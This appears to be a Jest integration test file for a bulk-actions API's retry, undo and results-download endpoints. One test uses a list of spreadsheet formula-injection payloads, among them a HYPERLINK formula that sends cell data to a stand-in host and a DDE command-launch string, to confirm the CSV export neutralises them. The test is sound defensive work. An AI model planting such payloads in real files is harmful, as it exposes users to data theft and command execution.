import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { logEntrySchema, type LogEntry } from '@bulk/contracts';
import type { OutcomeStatus } from '@bulk/domain';
import type { LoggedOutcome } from '@bulk/mongo';
import { eventually } from '@bulk/testing';
import { parse } from 'csv-parse/sync';
import { entitiesOf, IntakeHarness, positionsOf } from './harness.ts';

let harness: IntakeHarness;
beforeAll(async () => {
  harness = await IntakeHarness.create();
  await harness.start();
});
afterAll(() => harness.installation.dispose());

const SIZE = 95;
const STATUSES: OutcomeStatus[] = ['success', 'failure', 'success', 'skipped'];
const statusOf = (position: number): OutcomeStatus => STATUSES[position % STATUSES.length]!;
const failing = entitiesOf(SIZE).filter((_, position) => statusOf(position) === 'failure');

/** What a success did. */
type Made = (position: number) => Pick<LoggedOutcome, 'effect' | 'version' | 'changes'>;
const UPDATED = { effect: 'updated', version: 2 } as const;

/** Creates an action that has run, with the logs that stats-aggregator would have written. */
async function ended(
  config: Record<string, unknown> = {},
  parameters: Record<string, unknown> = {},
  made: Made = () => UPDATED,
): Promise<string> {
  const { body } = await harness.post({
    actionType: 'update',
    priority: 'low',
    config,
    retry: { maxAttempts: 9 },
    ...parameters,
    entities: entitiesOf(SIZE).map((entity, i) => ({ ...entity, ref: `row, ${i}` })),
  });
  const actionId = String(body.data?.['actionId']);
  await eventually('it is dispatched', async () => {
    return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
  });
  await withOutcomes(actionId, made);
  return actionId;
}

/** Writes the logs and the end of a dispatched action, as stats-aggregator would. */
async function withOutcomes(actionId: string, made: Made = () => UPDATED): Promise<void> {
  const batches = await harness.database.stagedBatches.find({ actionId }).toArray();
  const counts = { success: 0, failure: 0, skipped: 0 };
  for (const { _id, batchNo, partition, entities } of batches) {
    const own = { success: 0, failure: 0, skipped: 0 };
    const outcomes = entities.map(({ position, id, ref }) => {
      const status = statusOf(position);
      own[status] += 1;
      counts[status] += 1;
      const failed = status !== 'success';
      return { position, entityId: id, ref, status, code: failed ? 'A_CODE' : null, message: failed ? 'why, "so"\n' : null, attempts: 1, ...(failed ? {} : made(position)) };
    }); // prettier-ignore
    await harness.database.actionLogs.insertOne({
      _id, actionId, batchNo, partition, counts: own, outcomes,
      firstPosition: entities[0]!.position,
      lastPosition: entities.at(-1)!.position,
      source: { partition: 0, offset: batchNo },
      at: new Date(1_000),
    }); // prettier-ignore
  }
  await harness.database.actions.updateOne(
    { _id: actionId },
    { $set: { status: 'completed', counts, finishedAt: new Date() } },
  );
}

const retry = (actionId: string) => harness.send('POST', `/bulk-actions/${actionId}/retry`);

describe('POST /bulk-actions/:id/retry', () => {
  it('creates an action of exactly the failed positions, in order, as they were sent', async () => {
    const actionId = await ended({ set: { ownerId: 'u1' } });
    const { status, headers, body } = await retry(actionId);
    expect(status).toBe(202);
    expect(body.data).toMatchObject({
      retryOf: actionId,
      total: failing.length,
      priority: 'low',
      config: { set: { ownerId: 'u1' } },
      retry: { maxAttempts: 9 },
    });
    const newId = String(body.data?.['actionId']);
    expect(newId).not.toBe(actionId);
    expect(headers.get('location')).toBe(`/bulk-actions/${newId}`);
    const published = await eventually('all positions', async () => {
      const batches = await harness.published(newId);
      return positionsOf(batches).length >= failing.length ? batches : undefined;
    });
    const sent = published.flatMap(({ batch }) => batch.entities).sort((a, b) => a.position - b.position);
    expect(sent.map(({ id, fields }) => ({ id, ...(JSON.parse(fields) as object) }))).toEqual(failing);
    expect(sent.every(({ id, ref }) => ref === `row, ${id.slice(1)}`)).toBe(true);
  });

  it('names the first action of a chain of retries in every batch', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    const firstId = String(first.body.data?.['actionId']);
    const { actions } = harness.database;
    await eventually('the retry is dispatched', async () => {
      return (await actions.findOne({ _id: firstId }))?.dispatch.done === true;
    });
    await withOutcomes(firstId);
    const second = await retry(firstId);
    const secondId = String(second.body.data?.['actionId']);
    const batches = await eventually('a batch of each', async () => {
      const each = await Promise.all([actionId, firstId, secondId].map((id) => harness.published(id)));
      return each.every(({ length }) => length > 0) ? each : undefined;
    });
    const roots = batches.map((some) => [...new Set(some.map(({ batch }) => batch.rootActionId))]);
    expect(roots).toEqual([[null], [actionId], [actionId]]);
    expect(second.body.data).toMatchObject({ retryOf: firstId });
  });

  it('returns the same action when repeated', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    const again = await retry(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
  });

  it('returns the same action when the batches of the old action are gone, and reads none of them', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    await harness.database.stagedBatches.deleteMany({ actionId });
    const again = await retry(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
  });

  it('is refused before the end, without a failure, and when the sent entities are gone', async () => {
    const actionId = await ended();
    const { actions, stagedBatches } = harness.database;
    await actions.updateOne({ _id: actionId }, { $set: { status: 'processing' } });
    expect(await retry(actionId)).toMatchObject({
      status: 409,
      body: { error: { code: 'ACTION_NOT_FINISHED', details: { status: 'processing' } } },
    });
    await actions.updateOne({ _id: actionId }, { $set: { status: 'completed', 'counts.failure': 0 } });
    expect(await retry(actionId)).toMatchObject({
      status: 422,
      body: { error: { code: 'NOTHING_TO_RETRY' } },
    });
    await actions.updateOne({ _id: actionId }, { $set: { 'counts.failure': failing.length } });
    await stagedBatches.deleteOne({ actionId, batchNo: 5 });
    const before = await harness.traces();
    expect(await retry(actionId)).toMatchObject({ status: 409, body: { error: { code: 'RETRY_EXPIRED' } } });
    expect(await harness.traces()).toEqual(before);
  });
});

const undo = (actionId: string, query = '') => harness.send('POST', `/bulk-actions/${actionId}/undo${query}`);
const VALUES = { changes: 'values' };
const NAMES = { before: { lastName: 'Old' }, after: { lastName: 'New' } };
/** The successes are the even positions. */
const MADE: Record<number, ReturnType<Made>> = {
  0: { effect: 'unchanged', version: 1 },
  2: { effect: 'updated', version: 2, changes: '{"fields":["lastName"],"changesTruncated":true}' },
  4: { effect: 'created', version: 1, changes: '{"changesTruncated":true}' },
  6: { effect: 'deleted', version: 5, changes: '{"before":{"lastName":"Old"},"after":{}}' },
  8: {},
};
const madeAt: Made = (position) =>
  MADE[position] ?? { effect: 'updated', version: 2, changes: JSON.stringify(NAMES) };

describe('POST /bulk-actions/:id/undo', () => {
  it('creates one action of the records that were changed, with what was there before', async () => {
    const actionId = await ended({}, VALUES, madeAt);
    const { status, headers, body } = await undo(actionId);
    const successes = entitiesOf(SIZE).filter((_, i) => statusOf(i) === 'success').length;
    expect(status).toBe(202);
    expect(body.data).toMatchObject({
      actionType: 'undo',
      undoOf: actionId,
      retryOf: null,
      changes: 'values',
      total: successes - 1,
      config: {},
      retry: { maxAttempts: 9 },
    });
    const undoId = String(body.data?.['actionId']);
    expect(headers.get('location')).toBe(`/bulk-actions/${undoId}`);
    const batches = await eventually('all positions', async () => {
      const published = await harness.published(undoId);
      return positionsOf(published).length >= successes - 1 ? published : undefined;
    });
    expect(batches.every(({ batch }) => batch.changes === 'values')).toBe(true);
    const rows = batches.flatMap(({ batch }) => batch.entities).sort((a, b) => a.position - b.position);
    expect(rows.every(({ id, ref }) => ref === `row, ${id.slice(1)}`)).toBe(true);
    expect(
      rows.slice(0, 5).map(({ id, fields, fault }) => [id, fault?.code ?? (JSON.parse(fields) as unknown)]),
    ).toEqual([
      ['c2', 'CHANGES_TRUNCATED'],
      ['c4', { effect: 'created', version: 1, before: {} }],
      ['c6', { effect: 'deleted', version: 5, before: { lastName: 'Old' } }],
      ['c8', 'CHANGES_NOT_KEPT'],
      ['c10', { effect: 'updated', version: 2, before: { lastName: 'Old' } }],
    ]);

    const again = await undo(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(undoId);
    const foretold = await undo(actionId, '?dryRun=true');
    expect(foretold.body.data).toMatchObject({ dryRun: true, undoOf: actionId });
    expect(foretold.body.data?.['actionId']).not.toBe(undoId);
  });

  it('is refused with its reason, and leaves nothing, when the action cannot be undone', async () => {
    const [plain, dry, kept] = [
      await ended({}, { changes: 'fields' }),
      await ended({}, { dryRun: true }),
      await ended({}, VALUES, madeAt),
    ];
    const { actions, actionLogs } = harness.database;
    const before = await harness.traces();
    const refusal = async (actionId: string, query = ''): Promise<unknown[]> => {
      const { status, body } = await undo(actionId, query);
      return [status, body.error?.code, body.error?.details];
    };
    expect(await refusal(plain)).toEqual([422, 'CHANGES_NOT_KEPT', { changes: 'fields' }]);
    expect(await refusal(dry)).toEqual([422, 'DRY_RUN_NOT_UNDOABLE', undefined]);
    expect(await refusal(kept, '?dryRun=yes')).toMatchObject([400, 'INVALID_REQUEST', [{ field: 'dryRun' }]]);
    expect(await refusal(randomUUID())).toMatchObject([404, 'ACTION_NOT_FOUND']);
    await actions.updateOne({ _id: kept }, { $set: { status: 'processing' } });
    expect(await refusal(kept)).toEqual([409, 'ACTION_NOT_FINISHED', { status: 'processing' }]);
    await actions.updateOne({ _id: kept }, { $set: { status: 'cancelled' } });
    await actionLogs.deleteOne({ actionId: kept, batchNo: 3 });
    expect(await refusal(kept)).toEqual([409, 'UNDO_EXPIRED', undefined]);
    await actionLogs.updateMany({ actionId: kept }, [
      {
        $set: {
          outcomes: {
            $map: { input: '$outcomes', in: { $mergeObjects: ['$$this', { effect: 'unchanged' }] } },
          },
        },
      },
    ]);
    const left = await actionLogs.find({ actionId: kept }).toArray();
    const successes = left.reduce((sum, { counts }) => sum + counts.success, 0);
    await actions.updateOne({ _id: kept }, { $set: { 'counts.success': successes } });
    expect(await refusal(kept)).toEqual([422, 'NOTHING_TO_UNDO', undefined]);
    expect(await harness.traces()).toEqual(before);
    const named = await harness.post({ actionType: 'undo', entities: entitiesOf(1) });
    expect(named).toMatchObject({ status: 400, body: { error: { code: 'UNKNOWN_ACTION_TYPE' } } });
  });
});

const UPDATE_CONFIG = encodeURIComponent('{}');
/** Ids and refs that spreadsheets would run as formulas. */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
  '@SUM(1+9)',
  '+1-1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '"=1+1',
  'a;=1+1',
  'a\t+1',
  'plain',
].map((text) => ({ id: text, ref: text }));

const RESULTS = ['results.csv', 'results.ndjson'];
const asRows = (text: string): LogEntry[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => logEntrySchema.strict().parse(JSON.parse(line)));

async function download(path: string): Promise<{ response: Response; text: string }> {
  const response = await fetch(`${harness.url}${path}`, { headers: { 'x-account-id': 'acme' } });
  return { response, text: await response.text() };
}

describe('the results of an action', () => {
  it('come as NDJSON and as CSV with every outcome, in order of position, with the caller’s own row identity', async () => {
    const actionId = await ended();
    const ndjson = await download(`/bulk-actions/${actionId}/results.ndjson`);
    expect(ndjson.response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(ndjson.response.headers.get('content-disposition')).toBe(
      `attachment; filename="${actionId}-results.ndjson"`,
    );
    const rows = asRows(ndjson.text);
    expect(rows.map(({ position }) => position)).toEqual(entitiesOf(SIZE).map((_, i) => i));
    expect(
      rows.every(({ position, ref, status }) => ref === `row, ${position}` && status === statusOf(position)),
    ).toBe(true);

    const csv = await download(`/bulk-actions/${actionId}/results.csv`);
    expect(csv.response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const records = parse(csv.text, { columns: true });
    expect(records).toEqual(
      rows.map(({ position, entityId, ref, status, code, message, attempts, at, effect, version }) => ({
        position: String(position),
        id: entityId,
        ref,
        status,
        code: code ?? '',
        message: message ?? '',
        attempts: String(attempts),
        at,
        effect: effect ?? '',
        version: version === null ? '' : String(version),
      })),
    );
  });

  it('have the changes as a last column of the CSV and an object of NDJSON if the action keeps them', async () => {
    const actionId = await ended({}, VALUES, madeAt);
    const rows = asRows((await download(`/bulk-actions/${actionId}/results.ndjson`)).text);
    expect([rows[10]?.changes, rows[0]?.changes, rows[1]?.changes]).toEqual([NAMES, null, null]);
    const csv = await download(`/bulk-actions/${actionId}/results.csv`);
    const records = parse<Record<string, string>>(csv.text, { columns: true });
    expect(Object.keys(records[0]!).at(-1)).toBe('changes');
    expect([records[10]?.['changes'], records[0]?.['changes']]).toEqual([JSON.stringify(NAMES), '']);
  });

  it('start no formula in a spreadsheet as CSV, and are exact on request', async () => {
    const answer = await fetch(`${harness.url}/bulk-actions?actionType=update&config=${UPDATE_CONFIG}`, {
      method: 'POST',
      headers: { 'x-account-id': 'acme', 'content-type': 'application/x-ndjson' },
      body: FORMULAS.map((entity) => `${JSON.stringify(entity)}\n`).join(''),
    });
    const body = (await answer.json()) as { data?: { actionId: string } };
    expect([answer.status, body]).toMatchObject([202, {}]);
    const actionId = body.data!.actionId;
    await eventually('it is dispatched', async () => {
      return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
    });
    await withOutcomes(actionId);

    const exact = await download(`/bulk-actions/${actionId}/results.csv?exact=true`);
    const values = (text: string): string[][] =>
      parse<Record<string, string>>(text, { columns: true }).map(({ id, ref }) => [id!, ref!]);
    const sent = FORMULAS.map(({ id, ref }) => [id, ref]);
    expect(values(exact.text)).toEqual(sent);
    const { text } = await download(`/bulk-actions/${actionId}/results.csv`);
    // Some spreadsheets split at commas, others at semicolons and tabs, wherever these are.
    const cells = [...parse(text).flat(), ...text.split(/[;\t\r\n]/)];
    expect(cells.filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    // Only apostrophes are added.
    const bare = (all: string[][]): string[][] =>
      all.map((row) => row.map((cell) => cell.replaceAll("'", '')));
    expect(bare(values(text))).toEqual(bare(sent));
  });

  it.each(STATUSES.slice(1))('are filtered by type: %s', async (type) => {
    const actionId = await ended();
    const rows = asRows((await download(`/bulk-actions/${actionId}/results.ndjson?type=${type}`)).text);
    expect(rows.map(({ position }) => position)).toEqual(
      entitiesOf(SIZE).flatMap((_, position) => (statusOf(position) === type ? [position] : [])),
    );
  });

  it.each(RESULTS)('are empty as %s when the action has no outcomes', async (file) => {
    const { _id } = await harness.accepted(randomUUID(), 3, new Date('2999-01-01T00:00:00Z'));
    const { response, text } = await download(`/bulk-actions/${_id}/${file}`);
    expect(response.status).toBe(200);
    expect(text.split('\n').filter((line) => line !== '')).toHaveLength(file === 'results.csv' ? 1 : 0);
  });

  it.each(RESULTS)(
    'are refused as %s for another account, an unknown id and an invalid query',
    async (file) => {
      const { _id } = await harness.accepted(randomUUID(), 3, new Date('2999-01-01T00:00:00Z'));
      const refused = async (path: string, headers?: Record<string, string>): Promise<unknown> => {
        const answer = await harness.get(path, headers);
        return [answer.status, answer.body.error?.code];
      };
      expect(await refused(`/bulk-actions/${_id}/${file}`, { 'x-account-id': 'other' })).toEqual([
        404,
        'ACTION_NOT_FOUND',
      ]);
      expect(await refused(`/bulk-actions/${randomUUID()}/${file}`)).toEqual([404, 'ACTION_NOT_FOUND']);
      expect(await refused(`/bulk-actions/7/${file}`)).toEqual([400, 'INVALID_ID']);
      expect(await refused(`/bulk-actions/${_id}/${file}?type=bad`)).toEqual([400, 'INVALID_REQUEST']);
      expect(await refused(`/bulk-actions/${_id}/${file}`, {})).toEqual([400, 'ACCOUNT_REQUIRED']);
    },
  );
});
